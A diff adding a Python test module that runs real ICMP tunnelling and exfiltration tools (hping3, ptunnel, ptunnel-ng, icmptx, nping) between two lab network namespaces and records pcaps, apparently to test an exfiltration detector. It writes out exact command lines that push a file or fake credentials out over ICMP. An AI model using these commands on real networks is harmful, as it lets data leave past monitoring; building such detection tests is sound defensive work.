@@ -1,0 +1,518 @@
+"""Real ICMP tunnel and exfiltration tools, run between two network namespaces and recorded.
+
+Each case function runs one real tool (the Debian package) from the *inside* host
+(netlab's peer, 10.231.0.2) towards the *outside* host (netlab's sensor host,
+10.231.0.1), records everything that crossed the veth pair with tcpdump on the outside
+end, and returns the pcap's path (`WORKDIR/<case>.pcap`). The data always leaves from the
+inside host, so `LIVE_EXPECTED[case]` is (inside, outside) for every case.
+
+Cases (`LIVE_CASES`):
+
+* hping3-file-fast  `hping3 -1 -E FILE -d 500 -u`, 40 packets 5 ms apart (a 20 kB file).
+* hping3-file-slow  the same, 7 packets 3 s apart (about 20 s, real spacing).
+* ptunnel           ptunnel 0.72 proxy outside, client inside; a 20 kB TCP upload through it
+                    to a listener on the proxy host's loopback.
+* ptunnel-ng        the same with ptunnel-ng.
+* icmptx            IP over ICMP (a tun device in each namespace); a 20 kB TCP upload through
+                    the tunnel to a listener on the server's tunnel address.
+* nping-data        `nping --icmp --data-string SECRET`, 20 probes.
+
+Safety: packets only cross the veth pair between the two namespaces created here (the
+TCP endpoints are small Python scripts bound to the namespaces' own addresses). Every
+process runs under `timeout` in its own session and is killed by its process group
+afterwards, and the namespaces are deleted, also when something fails.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import itertools
+import os
+import re
+import shutil
+import signal
+import subprocess
+import sys
+import time
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import dpkt
+
+from testkit.netlab import PEER_IP, SENSOR_IF, SENSOR_IP, Lab, wait_for
+
+INSIDE, OUTSIDE = PEER_IP, SENSOR_IP  # the host the data leaves from, and its peer
+TUN_OUTSIDE, TUN_INSIDE = "10.232.9.1", "10.232.9.2"  # icmptx's tunnel addresses
+TCP_PORT, PTUNNEL_PORT = 9000, 8000
+TRANSFER_BYTES = 20_000
+
+
+class LiveToolError(RuntimeError):
+    """A tool did not do what the case needs (the message carries its output)."""
+
+
+_LAB_SERIAL = itertools.count()
+
+
+class ToolLab(Lab):
+    """netlab's two namespaces under names of their own (no clash with tests/live/test_live.py's lab)."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        tag = f"{os.getpid() % 100000}-{next(_LAB_SERIAL)}"
+        self.sensor_ns = f"icmt-o{tag}"  # outside: proxy / server / receiver; the capture point
+        self.peer_ns = f"icmt-i{tag}"  # inside: the host the data leaves from
+
+
+# -- commands --------------------------------------------------------------------------------
+# One place for every tool's command line: run from here, and shown in LIVE_PROVENANCE.
+
+def _secret_line(i: int) -> bytes:
+    line = f"row {i:05d}: name=customer-{i:05d}, card=4111-1111-1111-{i % 10000:04d}, pin={i * 7919 % 10000:04d}\n"
+    return line.encode()
+
+
+SECRET_STRING = "user=alice;password=Tr0ub4dor&3;token=8f14e45fceea167a5a36dedd4bea2543;host=db01.corp.example"
+
+HPING_FAST = ["hping3", "-1", "-E", "{file}", "-d", "500", "-u", "-c", "40", "-i", "u5000", "-q", OUTSIDE]
+HPING_SLOW = ["hping3", "-1", "-E", "{file}", "-d", "500", "-u", "-c", "7", "-i", "3", "-q", OUTSIDE]
+PTUNNEL_PROXY = ["ptunnel", "-v", "1"]
+PTUNNEL_CLIENT = ["ptunnel", "-p", OUTSIDE, "-lp", str(PTUNNEL_PORT), "-da", "127.0.0.1", "-dp", str(TCP_PORT),
+                  "-v", "1"]
+PTUNNEL_NG_PROXY = ["ptunnel-ng", "-r127.0.0.1", f"-R{TCP_PORT}", "-v", "1"]
+PTUNNEL_NG_CLIENT = ["ptunnel-ng", f"-p{OUTSIDE}", f"-l{PTUNNEL_PORT}", "-r127.0.0.1", f"-R{TCP_PORT}", "-v", "1"]
+ICMPTX_SERVER = ["icmptx", "-s", OUTSIDE]
+ICMPTX_CLIENT = ["icmptx", "-c", OUTSIDE]
+NPING = ["nping", "--icmp", "--icmp-type", "echo", "-c", "20", "--delay", "100ms", "--data-string", SECRET_STRING,
+         OUTSIDE]
+# Frames on the veth are at most 1514 bytes (MTU 1500; larger ICMP is fragmented). With the
+# default 262144-byte snap length the immediate-mode ring holds only 8 frames and a tunnel's
+# burst of 1 kB echoes is dropped by the kernel: 4096 bytes per frame and a 16 MiB buffer.
+TCPDUMP = ["tcpdump", "-i", SENSOR_IF, "-n", "-p", "-U", "--immediate-mode", "-s", "4096", "-B", "16384",
+           "-w", "{pcap}"]
+
+# Python stands in for nc: one TCP listener that reads a known number of bytes and answers
+# "ok", and one sender that waits for that answer (so the transfer is known to be complete).
+_TCP_SERVER = r"""
+import socket, sys
+host, port, size, out = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
+s = socket.socket()
+s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind((host, port))
+s.listen(1)
+s.settimeout(30)
+print("listening", flush=True)
+c, _ = s.accept()
+c.settimeout(30)
+data = bytearray()
+while len(data) < size:
+    chunk = c.recv(65536)
+    if not chunk:
+        break
+    data += chunk
+with open(out, "wb") as f:
+    f.write(data)
+c.sendall(b"ok")
+c.close()
+print("received", len(data), flush=True)
+"""
+
+_TCP_CLIENT = r"""
+import socket, sys, time
+host, port, path = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+data = open(path, "rb").read()
+deadline = time.monotonic() + 15
+while True:
+    try:
+        c = socket.create_connection((host, port), timeout=3)
+        break
+    except OSError as e:
+        if time.monotonic() > deadline:
+            raise SystemExit(f"connect {host}:{port}: {e}")
+        time.sleep(0.2)
+c.settimeout(30)
+c.sendall(data)
+reply = c.recv(2)
+c.close()
+print("sent", len(data), "reply", reply.decode(errors="replace"), flush=True)
+raise SystemExit(0 if reply == b"ok" else 1)
+"""
+
+
+def _fmt(argv: list[str], **values: object) -> list[str]:
+    return [a.format(**values) for a in argv]
+
+
+# -- bounded background processes ------------------------------------------------------------
+
+class _Proc:
+    """`ip netns exec NS timeout -k 2 LIMIT ARGV...` in its own session, output to a log file."""
+
+    def __init__(self, ns: str, argv: list[str], limit: float, log: Path) -> None:
+        self.argv, self.log = argv, log
+        with open(log, "wb") as out:
+            self.proc = subprocess.Popen(
+                ["ip", "netns", "exec", ns, "timeout", "-k", "2", str(limit), *argv],
+                stdin=subprocess.DEVNULL, stdout=out, stderr=subprocess.STDOUT, start_new_session=True)
+
+    def output(self) -> str:
+        try:
+            return self.log.read_text(errors="replace")
+        except OSError:
+            return ""
+
+    def wait(self, timeout: float) -> int | None:
+        with contextlib.suppress(subprocess.TimeoutExpired):
+            return self.proc.wait(timeout=timeout)
+        return None
+
+    def stop(self, sig: int = signal.SIGTERM, grace: float = 5.0) -> None:
+        """`sig` to the process group this object started (timeout and the tool: the Popen child is a
+        session leader, so the group id is its pid), then SIGKILL after `grace` seconds. Only while
+        that child has not been reaped, so the group id cannot belong to anything else."""
+        if self.proc.poll() is None:
+            with contextlib.suppress(ProcessLookupError):
+                os.killpg(self.proc.pid, sig)
+            if self.wait(grace) is None:
+                with contextlib.suppress(ProcessLookupError):
+                    os.killpg(self.proc.pid, signal.SIGKILL)
+                self.proc.wait(timeout=10)
+
+    def describe(self) -> str:
+        return f"$ {' '.join(self.argv)} (exit {self.proc.poll()})\n{self.output()[-3000:]}"
+
+
+class _Run:
+    """The processes of one case; all stopped when the case ends, however it ends."""
+
+    def __init__(self, lab: Lab, workdir: Path, name: str) -> None:
+        self.lab, self.workdir, self.name = lab, workdir, name
+        self.procs: list[_Proc] = []
+
+    def start(self, where: str, argv: list[str], limit: float, label: str) -> _Proc:
+        ns = self.lab.sensor_ns if where == "outside" else self.lab.peer_ns
+        proc = _Proc(ns, argv, limit, self.workdir / f"{self.name}.{label}.log")
+        self.procs.append(proc)
+        return proc
+
+    def stop_all(self) -> None:
+        for proc in reversed(self.procs):
+            proc.stop()
+
+    def fail(self, what: str) -> LiveToolError:
+        return LiveToolError(f"{self.name}: {what}\n" + "\n".join(p.describe() for p in self.procs))
+
+
+@contextlib.contextmanager
+def _lab(lab: Lab | None) -> Iterator[Lab]:
+    if lab is not None:
+        yield lab
+        return
+    own = ToolLab()
+    try:
+        own.up()
+        yield own
+    finally:
+        own.down()
+
+
+@contextlib.contextmanager
+def _capture(run: _Run, pcap: Path) -> Iterator[None]:
+    """tcpdump on the outside end of the veth for the duration of the block (at most 60 s)."""
+    tcpdump = run.start("outside", _fmt(TCPDUMP, pcap=pcap), 60, "tcpdump")
+    if not wait_for(lambda: "listening on" in tcpdump.output() or tcpdump.proc.poll() is not None, 10):
+        raise run.fail("tcpdump did not start listening within 10 s")
+    if tcpdump.proc.poll() is not None:
+        raise run.fail("tcpdump exited")
+    yield
+    time.sleep(0.5)  # the last replies
+    tcpdump.stop(signal.SIGINT)
+    if not pcap.exists():
+        raise run.fail("tcpdump wrote no capture")
+    dropped = re.search(r"(\d+) packets? dropped by kernel", tcpdump.output())
+    if dropped is None or int(dropped.group(1)):
+        raise run.fail("tcpdump did not record every packet (kernel drops, or no statistics line)")
+
+
+def secret_file(workdir: Path, size: int = TRANSFER_BYTES) -> Path:
+    path = workdir / "secret.txt"
+    data = b"".join(_secret_line(i) for i in range(size // 40 + 1))[:size]
+    path.write_bytes(data)
+    return path
+
+
+# -- the cases -------------------------------------------------------------------------------
+
+def _hping3(workdir: Path, name: str, argv: list[str], limit: float, lab: Lab | None) -> Path:
+    workdir.mkdir(parents=True, exist_ok=True)
+    secret = secret_file(workdir)
+    pcap = workdir / f"{name}.pcap"
+    with _lab(lab) as lab_, contextlib.ExitStack() as stack:
+        run = _Run(lab_, workdir, name)
+        stack.callback(run.stop_all)
+        with _capture(run, pcap):
+            sender = run.start("inside", _fmt(argv, file=secret), limit, "hping3")
+            if sender.wait(limit + 5) is None:
+                raise run.fail("hping3 did not finish")
+    return pcap
+
+
+def hping3_file_fast(workdir: Path, lab: Lab | None = None) -> Path:
+    """hping3 file mode: the 20 kB file in 40 x 500-byte echo requests, 200 packets/s."""
+    return _hping3(workdir, "hping3-file-fast", HPING_FAST, 15, lab)
+
+
+def hping3_file_slow(workdir: Path, lab: Lab | None = None) -> Path:
+    """hping3 file mode: 7 x 500-byte echo requests 3 s apart (about 20 s of real time)."""
+    return _hping3(workdir, "hping3-file-slow", HPING_SLOW, 30, lab)
+
+
+def _tcp_upload(run: _Run, secret: Path, server_host: str, client_host: str, client_port: int) -> None:
+    """A TCP upload of `secret`: listener on the outside host, sender on the inside host."""
+    received = run.workdir / f"{run.name}.received"
+    server = run.start("outside", [sys.executable, "-c", _TCP_SERVER, server_host, str(TCP_PORT),
+                                   str(secret.stat().st_size), str(received)], 40, "tcp-server")
+    if not wait_for(lambda: "listening" in server.output() or server.proc.poll() is not None, 10):
+        raise run.fail("the TCP listener did not start")
+    client = run.start("inside", [sys.executable, "-c", _TCP_CLIENT, client_host, str(client_port), str(secret)],
+                       40, "tcp-client")
+    if client.wait(45) != 0:
+        raise run.fail("the TCP transfer through the tunnel did not complete")
+    server.wait(5)
+    if not received.exists() or received.read_bytes() != secret.read_bytes():
+        raise run.fail("the bytes received differ from the bytes sent")
+
+
+def _ptunnel(workdir: Path, name: str, proxy_argv: list[str], client_argv: list[str], lab: Lab | None) -> Path:
+    workdir.mkdir(parents=True, exist_ok=True)
+    secret = secret_file(workdir)
+    pcap = workdir / f"{name}.pcap"
+    with _lab(lab) as lab_, contextlib.ExitStack() as stack:
+        run = _Run(lab_, workdir, name)
+        stack.callback(run.stop_all)
+        with _capture(run, pcap):
+            ptunnel_session(run, secret, proxy_argv, client_argv)
+    return pcap
+
+
+def ptunnel_session(run: _Run, secret: Path, proxy_argv: list[str], client_argv: list[str]) -> None:
+    """Proxy outside, client inside, a TCP upload through the tunnel; the tunnel is stopped afterwards."""
+    proxy = run.start("outside", proxy_argv, 40, "proxy")
+    client = run.start("inside", client_argv, 40, "client")
+    time.sleep(0.5)  # both open their ICMP sockets and the client its TCP listener
+    for proc, role in ((proxy, "proxy"), (client, "client")):
+        if proc.proc.poll() is not None:
+            raise run.fail(f"the {role} exited at start")
+    _tcp_upload(run, secret, "127.0.0.1", "127.0.0.1", PTUNNEL_PORT)
+    time.sleep(0.5)  # the tunnel's close handshake
+    client.stop()
+    proxy.stop()
+
+
+def ptunnel_tcp(workdir: Path, lab: Lab | None = None) -> Path:
+    """ptunnel 0.72: a 20 kB TCP upload through the ICMP tunnel."""
+    return _ptunnel(workdir, "ptunnel", PTUNNEL_PROXY, PTUNNEL_CLIENT, lab)
+
+
+def ptunnel_ng_tcp(workdir: Path, lab: Lab | None = None) -> Path:
+    """ptunnel-ng: a 20 kB TCP upload through the ICMP tunnel."""
+    return _ptunnel(workdir, "ptunnel-ng", PTUNNEL_NG_PROXY, PTUNNEL_NG_CLIENT, lab)
+
+
+def run_ptunnel_ng(lab: Lab, workdir: Path) -> None:
+    """ptunnel-ng's TCP upload between `lab`'s namespaces, without a capture (for a live sensor)."""
+    workdir.mkdir(parents=True, exist_ok=True)
+    secret = secret_file(workdir)
+    run = _Run(lab, workdir, "ptunnel-ng-live")
+    try:
+        ptunnel_session(run, secret, PTUNNEL_NG_PROXY, PTUNNEL_NG_CLIENT)
+    finally:
+        run.stop_all()
+
+
+def icmptx(workdir: Path, lab: Lab | None = None) -> Path:
+    """icmptx: IP over ICMP between tun devices; a 20 kB TCP upload through the tunnel."""
+    name = "icmptx"
+    workdir.mkdir(parents=True, exist_ok=True)
+    secret = secret_file(workdir)
+    pcap = workdir / f"{name}.pcap"
+    with _lab(lab) as lab_, contextlib.ExitStack() as stack:
+        run = _Run(lab_, workdir, name)
+        stack.callback(run.stop_all)
+        # The server answers the tunnel's echo requests itself (jakkarth/icmptx README): the
+        # kernel must not also answer them.
+        lab_.in_sensor("sysctl", "-qw", "net.ipv4.icmp_echo_ignore_all=1")
+        stack.callback(lab_.in_sensor, "sysctl", "-qw", "net.ipv4.icmp_echo_ignore_all=0", check=False)
+        server = run.start("outside", ICMPTX_SERVER, 40, "server")
+        client = run.start("inside", ICMPTX_CLIENT, 40, "client")
+        for ns_run, tun_addr in ((lab_.in_sensor, TUN_OUTSIDE), (lab_.in_peer, TUN_INSIDE)):
+            if not wait_for(lambda run_=ns_run: run_("ip", "link", "show", "tun0", check=False).returncode == 0, 5):
+                raise run.fail("icmptx created no tun0 (is /dev/net/tun usable?)")
+            ns_run("ip", "addr", "add", f"{tun_addr}/24", "dev", "tun0")
+            ns_run("ip", "link", "set", "tun0", "up")
+        for proc, role in ((server, "server"), (client, "client")):
+            if proc.proc.poll() is not None:
+                raise run.fail(f"icmptx {role} exited")
+        with _capture(run, pcap):
+            _tcp_upload(run, secret, TUN_OUTSIDE, TUN_OUTSIDE, TCP_PORT)
+        client.stop()
+        server.stop()
+    return pcap
+
+
+def nping_data(workdir: Path, lab: Lab | None = None) -> Path:
+    """nping: 20 echo requests carrying the same secret string, 100 ms apart."""
+    name = "nping-data"
+    workdir.mkdir(parents=True, exist_ok=True)
+    pcap = workdir / f"{name}.pcap"
+    with _lab(lab) as lab_, contextlib.ExitStack() as stack:
+        run = _Run(lab_, workdir, name)
+        stack.callback(run.stop_all)
+        with _capture(run, pcap):
+            sender = run.start("inside", NPING, 20, "nping")
+            if sender.wait(25) != 0:
+                raise run.fail("nping failed")
+    return pcap
+
+
+# -- registry --------------------------------------------------------------------------------
+
+LIVE_CASES: dict[str, Callable[[Path], Path]] = {
+    "hping3-file-fast": hping3_file_fast,
+    "hping3-file-slow": hping3_file_slow,
+    "ptunnel": ptunnel_tcp,
+    "ptunnel-ng": ptunnel_ng_tcp,
+    "icmptx": icmptx,
+    "nping-data": nping_data,
+}
+
+LIVE_EXPECTED: dict[str, tuple[str, str]] = {case: (INSIDE, OUTSIDE) for case in LIVE_CASES}
+
+# Cases where the outside host runs the other end of a tunnel and itself sends tunnel data back
+# (ptunnel's proxy: acks and the TCP reply; icmptx's server: the TCP acks and reply as IP packets).
+# There a notice may also name (outside, inside). In the other cases the outside host's kernel only
+# echoes: a notice naming it as a source is a false attribution.
+LIVE_TWO_WAY: frozenset[str] = frozenset({"ptunnel", "ptunnel-ng", "icmptx"})
+
+# case -> (Debian package, executables it needs)
+_TOOLS: dict[str, tuple[str, tuple[str, ...]]] = {
+    "hping3-file-fast": ("hping3", ("hping3",)),
+    "hping3-file-slow": ("hping3", ("hping3",)),
+    "ptunnel": ("ptunnel", ("ptunnel",)),
+    "ptunnel-ng": ("ptunnel-ng", ("ptunnel-ng",)),
+    "icmptx": ("icmptx", ("icmptx",)),
+    "nping-data": ("nmap", ("nping",)),
+}
+
+
+def _package_version(package: str) -> str:
+    try:
+        out = subprocess.run(["dpkg-query", "-W", "-f", "${Version}", package], capture_output=True, text=True,
+                             timeout=10)
+    except (OSError, subprocess.SubprocessError):
+        return "version unknown"
+    return out.stdout.strip() if out.returncode == 0 and out.stdout.strip() else "not installed"
+
+
+def _cmd(argv: list[str]) -> str:
+    return " ".join(a if " " not in a and ";" not in a and "&" not in a else repr(a) for a in argv)
+
+
+_UPLOAD = f"a {TRANSFER_BYTES}-byte TCP upload (Python socket sender inside, listener outside)"
+_COMMANDS: dict[str, str] = {
+    "hping3-file-fast": _cmd(_fmt(HPING_FAST, file="secret.txt")),
+    "hping3-file-slow": _cmd(_fmt(HPING_SLOW, file="secret.txt")),
+    "ptunnel": f"proxy: {_cmd(PTUNNEL_PROXY)}; client: {_cmd(PTUNNEL_CLIENT)}; {_UPLOAD} to 127.0.0.1:{TCP_PORT} "
+               f"via the client's port {PTUNNEL_PORT}",
+    "ptunnel-ng": f"proxy: {_cmd(PTUNNEL_NG_PROXY)}; client: {_cmd(PTUNNEL_NG_CLIENT)}; {_UPLOAD} to "
+                  f"127.0.0.1:{TCP_PORT} via the client's port {PTUNNEL_PORT}",
+    "icmptx": f"server: sysctl net.ipv4.icmp_echo_ignore_all=1; {_cmd(ICMPTX_SERVER)}, tun0 {TUN_OUTSIDE}/24; "
+              f"client: {_cmd(ICMPTX_CLIENT)}, tun0 {TUN_INSIDE}/24; {_UPLOAD} to {TUN_OUTSIDE}:{TCP_PORT}",
+    "nping-data": _cmd(NPING),
+}
+
+LIVE_PROVENANCE: dict[str, str] = {
+    case: f"{package} {_package_version(package)} (Debian): {_COMMANDS[case]}; inside {INSIDE} -> outside "
+          f"{OUTSIDE}, captured with {_cmd(_fmt(TCPDUMP, pcap=case + '.pcap'))} on the outside end of the veth pair"
+    for case, (package, _) in _TOOLS.items()
+}
+
+
+def missing_prerequisite(case: str | None = None) -> str | None:
+    """Why the live tool cases (or one `case`) cannot run here, or None."""
+    if os.geteuid() != 0:
+        return "live tool captures need root (network namespaces, raw sockets, tcpdump)"
+    for tool in ("ip", "timeout", "tcpdump", "ping"):
+        if shutil.which(tool) is None:
+            return f"live tool captures need {tool} (bash packaging/dev.sh setup installs it)"
+    if case is None:
+        return None
+    package, tools = _TOOLS[case]
+    for tool in tools:
+        if shutil.which(tool) is None:
+            return f"{case}: {tool} is not installed (Debian package {package}; bash packaging/dev.sh setup)"
+    if case == "icmptx":
+        try:
+            fd = os.open("/dev/net/tun", os.O_RDWR)
+        except OSError as e:
+            return f"icmptx needs a usable /dev/net/tun (tun driver): cannot open it: {e.strerror}"
+        os.close(fd)
+    return None
+
+
+# -- reading a capture back ------------------------------------------------------------------
+
+def _icmp_packets(pcap: Path) -> Iterator[tuple[float, str, str, int, bytes]]:
+    """(ts, src, dst, ICMP type, bytes after the 8-byte ICMP header) of every ICMP/ICMPv6 packet."""
+    import ipaddress
+
+    with open(pcap, "rb") as f:
+        for ts, frame in dpkt.pcap.Reader(f):
+            eth = dpkt.ethernet.Ethernet(frame)
+            ip = eth.data
+            v4 = isinstance(ip, dpkt.ip.IP) and ip.p == dpkt.ip.IP_PROTO_ICMP
+            if not v4 and not (isinstance(ip, dpkt.ip6.IP6) and ip.nxt == dpkt.ip.IP_PROTO_ICMP6):
+                continue
+            raw = bytes(ip.data)
+            if len(raw) < 8:
+                continue
+            yield (float(ts), str(ipaddress.ip_address(ip.src)), str(ipaddress.ip_address(ip.dst)), raw[0], raw[8:])
+
+
+def first_exfil_time(pcap: Path, source: str) -> float | None:
+    """Capture time of the first ICMP packet from `source` that carries payload, or None."""
+    for ts, src, _, _, payload in _icmp_packets(pcap):
+        if src == source and payload:
+            return ts
+    return None
+
+
+def capture_summary(pcap: Path) -> dict[tuple[str, str], tuple[int, int]]:
+    """(src, dst) -> (ICMP packets, payload bytes) in a capture."""
+    out: dict[tuple[str, str], tuple[int, int]] = {}
+    for _, src, dst, _, payload in _icmp_packets(pcap):
+        n, size = out.get((src, dst), (0, 0))
+        out[(src, dst)] = (n + 1, size + len(payload))
+    return out
+
+
+def main(argv: list[str]) -> int:
+    """`python -m testkit.livetools WORKDIR [CASE...]`: make the captures and print what they hold."""
+    if len(argv) < 1:
+        print("usage: python -m testkit.livetools WORKDIR [CASE...]", file=sys.stderr)
+        return 2
+    workdir = Path(argv[0])
+    for case in argv[1:] or list(LIVE_CASES):
+        reason = missing_prerequisite(case)
+        if reason:
+            print(f"{case}: skipped: {reason}")
+            continue
+        start = time.monotonic()
+        pcap = LIVE_CASES[case](workdir)
+        print(f"{case}: {pcap} in {time.monotonic() - start:.1f} s; first exfil packet at "
+              f"{first_exfil_time(pcap, LIVE_EXPECTED[case][0])}; {capture_summary(pcap)}")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main(sys.argv[1:]))
